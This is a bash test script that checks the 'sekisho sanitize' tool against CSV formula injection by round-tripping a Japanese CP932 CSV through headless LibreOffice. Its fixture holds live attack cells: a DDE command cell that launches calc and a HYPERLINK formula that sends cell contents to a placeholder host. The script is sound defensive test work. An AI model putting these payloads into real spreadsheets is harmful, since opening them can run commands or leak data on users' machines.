#!/usr/bin/env bash
# The text module against a real spreadsheet: a CP932 CSV with formula and DDE cells is
# sanitised by `sekisho sanitize`, then LibreOffice (headless) imports both the original and
# the result as Shift_JIS (MS-932) CSV *with formula evaluation on* and saves them as xlsx.
# The original must come out with formula cells (so the check can fail), the result with
# none, the neutralised cells as text beginning with ', numbers still numbers, and the
# Japanese intact. TAP output. Usage: text_libreoffice.sh path/to/sekisho
set -uo pipefail
sekisho=$1
if ! command -v soffice >/dev/null || ! command -v unzip >/dev/null || ! command -v iconv >/dev/null; then
	echo "1..0 # SKIP soffice, unzip or iconv not installed"
	exit 0
fi
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
n=0
fails=0
ok() { n=$((n + 1)); if [ "$1" -eq 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; fails=$((fails + 1)); fi; }

echo "1..10"
printf '%s\r\n' '氏名,金額,式,備考' \
	'山田太郎,100,=1+1,①㈱' \
	'鈴木花子,-5,"=HYPERLINK(""http://example.invalid/?""&A2,""リンク"")",ソフト表示' \
	"佐藤一郎,+81,=cmd|' /C calc'!A0,\"東京都, 千代田区\"" \
	'高橋,-1.5e3,-2+3,"複数行' \
	'=の備考"' | iconv -f UTF-8 -t CP932 >"$work/kingaku.csv"
ok $? "CP932 input written"

"$sekisho" sanitize --json -o "$work/out" "$work/kingaku.csv" >"$work/report.json"
rc=$?
grep -q '"verdict":"sanitized"' "$work/report.json" && grep -q '"what":"formula"' "$work/report.json"
ok $((rc + $?)) "sekisho sanitize neutralises the formula cells (exit $rc)"

iconv -f CP932 -t UTF-8 "$work/out/kingaku.csv" >"$work/out.utf8"
ok $? "the result is still valid CP932"

# CSV import options: comma, double quote, charset 60 (MS-932), from line 1; token 13:
# evaluate formulas (on, to show that the original's formulas are live)
lo() { # input outdir
	soffice --headless --norestore "-env:UserInstallation=file://$work/profile" \
		--infilter="CSV:44,34,60,1,,,,,,,,true" --convert-to xlsx --outdir "$2" "$1" \
		>>"$work/soffice.log" 2>&1
}
lo "$work/kingaku.csv" "$work/x-orig" && lo "$work/out/kingaku.csv" "$work/x-out"
ok $? "LibreOffice converts both to xlsx"

sheet() { unzip -p "$1" xl/worksheets/sheet1.xml; }
# one shared string a line, without the rich-text runs LibreOffice splits them into
strings() { unzip -p "$1" xl/sharedStrings.xml | sed -e 's/<si>/\n/g' -e 's/<[^>]*>//g'; }
sheet "$work/x-orig/kingaku.xlsx" | grep -q '<f'
ok $? "the original has live formula cells in LibreOffice"

! sheet "$work/x-out/kingaku.xlsx" | grep -q '<f'
ok $? "the sanitised file has no formula cell"

s=$(strings "$work/x-out/kingaku.xlsx")
grep -qF "&apos;=1+1" <<<"$s" && grep -qF "&apos;=HYPERLINK(" <<<"$s" &&
	grep -qF "&apos;=cmd|&apos; /C calc&apos;!A0" <<<"$s" && grep -qF "&apos;-2+3" <<<"$s"
ok $? "the neutralised cells read as text starting with '"

grep -qF "山田太郎" <<<"$s" && grep -qF "①㈱" <<<"$s" && grep -qF "ソフト表示" <<<"$s" &&
	grep -qF "東京都, 千代田区" <<<"$s" && grep -qF "リンク" <<<"$s"
ok $? "the Japanese text is intact (including ①㈱ and 0x5C trail bytes)"

x=$(sheet "$work/x-out/kingaku.xlsx")
grep -qE '<c r="B2"[^>]*t="n"><v>100</v>' <<<"$x" && grep -qE '<c r="B3"[^>]*t="n"><v>-5</v>' <<<"$x" &&
	grep -qE '<c r="B5"[^>]*t="n"><v>-1500</v>' <<<"$x"
ok $? "numbers (100, -5, -1.5e3) are still numbers"

grep -qF "複数行" <<<"$s" && ! grep -qF "&apos;=の備考" <<<"$s"
ok $? "a line of a multi-line cell starting with = is content, left alone"

[ $fails -eq 0 ] || { echo "# soffice log:"; sed 's/^/# /' "$work/soffice.log"; }
exit 0
